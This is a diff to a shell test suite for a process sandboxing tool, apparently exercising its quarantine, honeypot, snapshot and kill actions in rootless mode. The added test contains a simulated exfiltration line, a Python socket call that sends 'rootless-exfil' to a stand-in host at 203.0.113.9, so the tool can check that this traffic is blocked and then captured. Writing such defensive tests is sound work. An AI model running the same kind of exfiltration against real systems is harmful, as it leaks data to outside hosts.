@@ -259,6 +259,7 @@ for i in range(400):
   cat "$WARD_ROOT/act-h1/honeypot.log"
   sink=$(w action act-h1 status | jq -r '.layers[] | select(.layer == "sink") | .pid')
   kill -0 "$sink"
+  [ "$(stat -c %u /proc/"$sink")" -eq 65534 ]  # host root drops to nobody
   run w action act-h1 resume
   [ "$status" -eq 0 ]
   for i in $(seq 50); do [ "$(ps -o stat= -p "$sink" 2>/dev/null | cut -c1)" != "S" ] && break; sleep 0.05; done
@@ -549,4 +550,45 @@ attack() {
   tar -xOf "$TEST_TMP/a5.tar" --wildcards 'net/*/tcp' | grep -q ':46A0 00000000:0000 0A'
   w action act-a5 kill
   wait "$BG" || true
+}
+
+@test "act: rootless: nonet and honeypot from inside the user namespace, snapshot, kill through the pid namespace" {
+  rootless_setup
+  rootless "$RL_WARD" sandbox --name act-rl1 -- sh -c "i=0; while [ \$i -lt 400 ]; do
+      $PY -c 'import socket; s = socket.create_connection((\"203.0.113.9\", 8080), timeout=1); s.sendall(b\"rootless-exfil\"); print(\"connect-ok\")' 2>/dev/null || echo connect-fail
+      echo tick; i=\$((i+1)); sleep 0.1; done" > "$RL_TMP/out" 2>&1 &
+  BG=$!
+  for i in $(seq 200); do rootless "$RL_WARD" state act-rl1 >/dev/null 2>&1 && break; sleep 0.05; done
+  PID=$(rootless "$RL_WARD" state act-rl1 | jq .pid)
+  wait_for "$RL_TMP/out" connect-fail
+  # no cgroup to freeze: refused, nothing applied
+  run rootless "$RL_WARD" action act-rl1 quarantine --form freeze
+  echo "$output"
+  [ "$status" -ne 0 ]
+  [[ "$output" == *"has no cgroup"*"use --form nonet"* ]]
+  run rootless "$RL_WARD" action act-rl1 quarantine --form nonet
+  echo "$output"
+  [ "$status" -eq 0 ]
+  nsenter -t "$PID" -n ip rule | grep -q prohibit
+  run rootless "$RL_WARD" action act-rl1 honeypot
+  echo "$output"
+  [ "$status" -eq 0 ]
+  [[ "$output" == *"replaced: quarantine"* ]]
+  ! nsenter -t "$PID" -n ip rule | grep -q prohibit
+  wait_for "$RL_ROOT/act-rl1/honeypot.log" rootless-exfil
+  sink=$(rootless "$RL_WARD" action act-rl1 status | jq -r '.layers[] | select(.layer == "sink") | .pid')
+  [ "$(stat -c %u /proc/"$sink")" -eq "$(id -u wardtest)" ]
+  grep -q '^CapEff:.*0000000000000000' /proc/"$sink"/status
+  run rootless "$RL_WARD" snapshot act-rl1 -o "$RL_TMP/s.tar"
+  [ "$status" -eq 0 ]
+  rootless "$RL_WARD" snapshot show --json "$RL_TMP/s.tar" | jq -e --argjson p "$PID" '[.processes[] | select(.pid == $p)] | length == 1'
+  run rootless "$RL_WARD" action act-rl1 kill
+  echo "$output"
+  [ "$status" -eq 0 ]
+  [[ "$output" == *"(pid namespace init)"* ]]
+  wait "$BG" || true
+  ! kill -0 "$PID" 2>/dev/null
+  for i in $(seq 50); do kill -0 "$sink" 2>/dev/null || break; sleep 0.05; done
+  ! kill -0 "$sink" 2>/dev/null || [ "$(ps -o stat= -p "$sink" | cut -c1)" = Z ]
+  rm -rf "$RL_TMP"
 }
